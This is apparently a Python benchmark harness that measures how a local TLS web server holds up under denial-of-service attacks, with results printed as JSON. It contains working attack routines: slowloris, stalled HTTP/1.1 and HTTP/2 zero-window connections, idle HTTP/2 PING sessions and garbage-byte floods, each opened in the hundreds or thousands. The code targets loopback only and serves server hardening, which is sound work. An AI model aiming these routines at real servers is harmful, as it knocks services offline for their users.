#!/usr/bin/env python3
"""The clients of bench/attack.sh: one attack against one server, with a well-behaved client measuring service
throughout and the server's memory and descriptors sampled. Loopback only; every loop is bounded in time.

    attack_clients.py ATTACK PORT CA PIDS SECS COOL [SERVER_TIMEOUT]

ATTACK: slowloris | stalled-h1 | stalled-h2 | idle-h2-ping | garbage | none (the flood and stuck-output attacks
are driven by attack.sh with wrk, given as ATTACK_CMD: this program starts it after the baseline and waits for it).
PIDS: the server's processes, comma-separated (nginx: master and workers). Prints one JSON line with the results.
"""
import asyncio
import json
import os
import resource
import socket
import ssl
import shlex
import statistics
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

attack, port, ca, pids = sys.argv[1], int(sys.argv[2]), sys.argv[3], [int(p) for p in sys.argv[4].split(",")]
secs, cool = float(sys.argv[5]), float(sys.argv[6])
server_timeout = float(sys.argv[7]) if len(sys.argv) > 7 else 10.0
scale = float(os.environ.get("ATTACK_SCALE", "1"))

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def sample():
    """(RSS in MB, open descriptors) summed over the server's processes."""
    rss, fds = 0, 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        rss += int(line.split()[1])
            fds += len(os.listdir(f"/proc/{pid}/fd"))
        except (FileNotFoundError, ProcessLookupError, PermissionError):
            pass
    return rss / 1024, fds


# --- the well-behaved client: a new TLS connection and GET /small.txt every 100 ms, 5 s allowed.
good_ctx = ssl.create_default_context(cafile=ca)
good_ctx.set_alpn_protocols(["http/1.1"])


def good_request():
    start = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
            raw.settimeout(max(0.1, 5 - (time.monotonic() - start)))
            with good_ctx.wrap_socket(raw, server_hostname="localhost") as s:
                s.sendall(b"GET /small.txt HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    if time.monotonic() - start > 5:
                        return None
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    data += chunk
        if data.startswith(b"HTTP/1.1 200") and data.endswith(b"small file\n"):
            return time.monotonic() - start
    except (OSError, ssl.SSLError):
        pass
    return None


results = {"during": [], "after": []}
samples = []
phase = ["before"]
stop_all = threading.Event()


def well_behaved():
    while not stop_all.is_set():
        t0 = time.monotonic()
        r = good_request()
        if phase[0] in results:
            results[phase[0]].append(r)
        time.sleep(max(0, 0.1 - (time.monotonic() - t0)))


def sampler():
    while not stop_all.is_set():
        samples.append((phase[0], *sample()))
        time.sleep(0.5)


# --- attackers, on their own asyncio loop.
bad_ctx = ssl.create_default_context()
bad_ctx.check_hostname = False
bad_ctx.verify_mode = ssl.CERT_NONE
h2_ctx = ssl.create_default_context()
h2_ctx.check_hostname = False
h2_ctx.verify_mode = ssl.CERT_NONE
h2_ctx.set_alpn_protocols(["h2"])
h1_ctx = ssl.create_default_context()
h1_ctx.check_hostname = False
h1_ctx.verify_mode = ssl.CERT_NONE
h1_ctx.set_alpn_protocols(["http/1.1"])
stats = {"connections": 0, "closed_by_server": 0, "errors": 0}


async def open_tls(ctx, rcvbuf=None):
    sock = socket.socket()
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(sock=sock, ssl=ctx, server_hostname="localhost"), 10)
    stats["connections"] += 1
    return reader, writer


async def forever(one, deadline):
    """Run `one` again and again (a new connection each time) until the deadline."""
    while time.monotonic() < deadline:
        try:
            await one(deadline)
        except (OSError, ssl.SSLError, asyncio.TimeoutError, EOFError, h2.exceptions.ProtocolError):
            stats["errors"] += 1
            await asyncio.sleep(0.5)


async def slowloris(deadline):
    """A request header that never ends: one more header line every 5 s."""
    reader, writer = await open_tls(h1_ctx)
    try:
        writer.write(b"GET /small.txt HTTP/1.1\r\nHost: localhost\r\n")
        while time.monotonic() < deadline:
            await writer.drain()
            try:
                if await asyncio.wait_for(reader.read(1), 5) == b"":
                    stats["closed_by_server"] += 1
                    return
            except asyncio.TimeoutError:
                pass
            writer.write(b"X-Slow: yes\r\n")
    finally:
        writer.transport.abort()


async def stalled_h1(deadline):
    """Asks for a large file and never reads; replaced after the server's send timeout would have fired."""
    reader, writer = await open_tls(h1_ctx, rcvbuf=16384)
    try:
        writer.write(b"GET /big.bin HTTP/1.1\r\nHost: localhost\r\n\r\n")
        await writer.drain()
        await asyncio.sleep(min(server_timeout + 5, max(0, deadline - time.monotonic())))
    finally:
        writer.transport.abort()


async def h2_session(deadline, streams, ping_every=None):
    """An HTTP/2 connection with a zero window holding `streams` requests for the large file (re-opened when
    reset), or with no request at all and a PING every `ping_every` seconds."""
    reader, writer = await open_tls(h2_ctx)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if streams:
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    next_id = 1

    def ask():
        nonlocal next_id
        conn.send_headers(next_id, [(":method", "GET"), (":path", "/big.bin"), (":scheme", "https"),
                                    (":authority", "localhost")], end_stream=True)
        next_id += 2

    for _ in range(streams):
        ask()
    try:
        last_ping = time.monotonic()
        while time.monotonic() < deadline:
            writer.write(conn.data_to_send())
            await writer.drain()
            try:
                data = await asyncio.wait_for(reader.read(65536), 1)
            except asyncio.TimeoutError:
                data = None
            if data == b"":
                stats["closed_by_server"] += 1
                return
            if data:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.StreamReset) and streams:
                        ask()
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        stats["closed_by_server"] += 1
                        return
            if ping_every and time.monotonic() - last_ping >= ping_every:
                conn.ping(b"attack!!")
                last_ping = time.monotonic()
    finally:
        writer.transport.abort()


async def garbage(deadline):
    """Bytes that are not TLS, 20 connections a second from this task."""
    while time.monotonic() < deadline:
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
            writer.write(b"\x47" * 64)
            await writer.drain()
            writer.transport.abort()
        except (OSError, asyncio.TimeoutError):
            stats["errors"] += 1
        await asyncio.sleep(0.05)


def plan(name):
    n = lambda count: max(1, int(count * scale))
    if name == "slowloris":
        return [(slowloris, ()) for _ in range(n(1500))]
    if name == "stalled-h1":
        return [(stalled_h1, ()) for _ in range(n(1100))]
    if name == "stalled-h2":
        return [(h2_session, (128,)) for _ in range(n(170))]
    if name == "idle-h2-ping":
        return [(h2_session, (0, 5)) for _ in range(n(1000))]
    if name == "garbage":
        return [(garbage, ()) for _ in range(n(5))]
    if name == "soak":
        return ([(slowloris, ())] * n(300) + [(stalled_h1, ())] * n(200) + [(h2_session, (128,))] * n(20)
                + [(h2_session, (0, 5))] * n(200) + [(garbage, ())] * n(2))
    return []


async def run_attack(name, deadline):
    tasks = []
    for i, (fn, args) in enumerate(plan(name)):
        tasks.append(asyncio.create_task(forever(lambda d, fn=fn, args=args: fn(d, *args), deadline)))
        if i % 50 == 49:
            await asyncio.sleep(0.05)  # ramp up: the attacker's own handshakes take CPU too
    await asyncio.gather(*tasks, return_exceptions=True)


def main():
    threading.Thread(target=sampler, daemon=True).start()
    # Before: a few well-behaved requests and the baseline.
    for _ in range(10):
        good_request()
    before = sample()
    threading.Thread(target=well_behaved, daemon=True).start()
    phase[0] = "during"
    deadline = time.monotonic() + secs
    extra = os.environ.get("ATTACK_CMD")
    tool = subprocess.Popen(shlex.split(extra), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) if extra else None
    if plan(attack):
        asyncio.run(run_attack(attack, deadline))
    while time.monotonic() < deadline:
        time.sleep(0.1)
    if tool:
        try:
            tool.wait(timeout=30)
        except subprocess.TimeoutExpired:
            tool.kill()
    phase[0] = "after"
    time.sleep(cool)
    after = sample()
    stop_all.set()
    during = results["during"]
    ok = [r for r in during if r is not None]
    peak_rss = max([s[1] for s in samples] + [before[0]])
    peak_fds = max([s[2] for s in samples] + [before[1]])
    row = {
        "attack": attack,
        "requests": len(during),
        "served": len(ok),
        "served_pct": round(100.0 * len(ok) / len(during), 1) if during else 0.0,
        "p50_ms": round(statistics.median(ok) * 1000, 1) if ok else None,
        "max_ms": round(max(ok) * 1000, 1) if ok else None,
        "after_served_pct": round(100.0 * sum(r is not None for r in results["after"]) / len(results["after"]), 1)
        if results["after"] else None,
        "rss_mb": [round(before[0], 1), round(peak_rss, 1), round(after[0], 1)],
        "fds": [before[1], peak_fds, after[1]],
        "attacker": stats,
    }
    print(json.dumps(row), flush=True)


main()
